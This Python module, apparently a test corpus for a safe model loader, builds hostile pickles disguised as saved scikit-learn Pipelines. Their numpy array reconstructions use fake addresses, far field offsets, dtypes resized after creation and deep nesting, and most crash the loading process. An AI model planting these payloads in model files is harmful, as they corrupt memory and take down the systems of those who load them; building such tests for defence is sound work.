"""Pickles that harm whoever loads them with numpy's own objects, instruction by instruction.

Each stands for the arrays of a Pipeline that looks like a saved one. Where an unpickler lets numpy's objects
be called, most of them end the process with SIGSEGV.
"""

from __future__ import annotations

import pickle as ops

NONE = ops.NONE
ADDRESS = b"\x00@AAAA\x00\x00"
"""Where an array of objects finds its first."""


def text(value: str) -> bytes:
    return ops.SHORT_BINUNICODE + bytes([len(value)]) + value.encode()


def raw(value: bytes) -> bytes:
    return ops.SHORT_BINBYTES + bytes([len(value)]) + value


def number(value: int) -> bytes:
    return ops.BININT + value.to_bytes(4, "little", signed=True)


def tuple_of(*items: bytes) -> bytes:
    return ops.MARK + b"".join(items) + ops.TUPLE


def dict_of(**items: bytes) -> bytes:
    pairs = b"".join(text(name) + value for name, value in items.items())
    return ops.EMPTY_DICT + ops.MARK + pairs + ops.SETITEMS


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + ops.STACK_GLOBAL


def called(what: bytes, *arguments: bytes) -> bytes:
    return what + tuple_of(*arguments) + ops.REDUCE


def built(what: bytes, *state: bytes) -> bytes:
    return what + tuple_of(*state) + ops.BUILD


NDARRAY = named("numpy", "ndarray")
RECONSTRUCT = named("numpy._core.multiarray", "_reconstruct")
SCALAR = named("numpy._core.multiarray", "scalar")
FROM_BUFFER = named("numpy._core.numeric", "_frombuffer")


def dtype(kind: str, *state: bytes) -> bytes:
    made = called(named("numpy", "dtype"), text(kind), ops.NEWFALSE, ops.NEWTRUE)
    return built(made, *state) if state else made


def fields(kind: bytes, offset: int) -> bytes:
    """A dtype of eight bytes with a field `a`."""
    inner = dict_of(a=tuple_of(kind, number(offset)))
    state = [text("|"), NONE, tuple_of(text("a")), inner, number(8), number(1), number(0)]
    return dtype("V8", number(3), *state)


def array(kind: bytes, content: bytes, length: int = 1) -> bytes:
    empty = called(RECONSTRUCT, NDARRAY, tuple_of(number(0)), raw(b"b"))
    return built(empty, number(1), tuple_of(number(length)), kind, ops.NEWFALSE, content)


KIND = dtype("V8") + ops.MEMOIZE
LARGER = [text("|"), NONE, NONE, NONE, number(2**28), number(1), number(0)]
GROWS = built(ops.BINGET + b"\0", number(3), *LARGER)
"""The first dtype that was kept is told that its items are 256 MB long, when there are arrays of it."""


OBJECTS, FAR = fields(dtype("O"), 0), fields(dtype("f8"), 2**30)
SHORT = raw(b"1" * 32)

ONE, FOUR = tuple_of(number(1)), tuple_of(number(4))

ARRAYS = {
    "ndarray of objects over bytes": called(NDARRAY, ONE, text("O"), raw(ADDRESS)),
    "dtype with a field of objects": called(NDARRAY, ONE, OBJECTS, raw(ADDRESS)),
    "dtype with a field far off": called(NDARRAY, ONE, FAR, raw(ADDRESS)),
    "dtype that grows under an ndarray": called(NDARRAY, FOUR, KIND, SHORT),
    "_frombuffer of objects": called(FROM_BUFFER, raw(ADDRESS), OBJECTS, ONE, text("C")),
    "_frombuffer far off": called(FROM_BUFFER, raw(ADDRESS), FAR, ONE, text("C")),
    "_frombuffer that grows": called(FROM_BUFFER, SHORT, KIND, FOUR, text("C")),
    "scalar of objects": called(SCALAR, OBJECTS, raw(ADDRESS)),
    "scalar far off": called(SCALAR, FAR, raw(ADDRESS)),
    "_reconstruct of objects": array(OBJECTS, raw(ADDRESS)),
    "_reconstruct far off": array(FAR, raw(ADDRESS)),
    "_reconstruct that grows": array(KIND, SHORT, 4),
    "_reconstruct of fewer objects": array(
        dtype("O", number(3), text("|"), NONE, NONE, NONE, number(-1), number(-1), number(63)),
        ops.EMPTY_LIST,
        2**20,
    ),
    "a key of tuples in tuples": ops.EMPTY_DICT + ops.EMPTY_TUPLE + ops.TUPLE1 * 60_000 + NONE + ops.SETITEM,
    "objects in objects": named("numpy", "dtype") * 12_000
    + ops.EMPTY_TUPLE
    + (ops.REDUCE + ops.TUPLE1) * 12_000,
    "fewer numbers than told": array(
        dtype("f8", number(3), text("<"), NONE, NONE, NONE, number(-1), number(-1), number(0)), SHORT, 2**20
    ),
}


def step(module: str, name: str, **attributes: bytes) -> bytes:
    made = named(module, name) + ops.EMPTY_TUPLE + ops.NEWOBJ
    return made + dict_of(**attributes) + ops.BUILD


def model_with(value: bytes) -> bytes:
    """A pickled Pipeline whose scaler and K-Means have this for their arrays."""
    learned = dict.fromkeys(("feature_names_in_", "data_min_", "data_max_", "scale_", "min_"), value)
    scaler = step("sklearn.preprocessing._data", "MinMaxScaler", **learned)
    after = GROWS if KIND in value else NONE
    kmeans = step("sklearn.cluster._kmeans", "KMeans", cluster_centers_=value, after=after)
    steps = [tuple_of(text("scale"), scaler), tuple_of(text("cluster"), kmeans)]
    pipeline = ops.EMPTY_LIST + ops.MARK + b"".join(steps) + ops.APPENDS
    return ops.PROTO + b"\x04" + step("sklearn.pipeline", "Pipeline", steps=pipeline) + ops.STOP


HOSTILE = {name: model_with(value) for name, value in ARRAYS.items()}
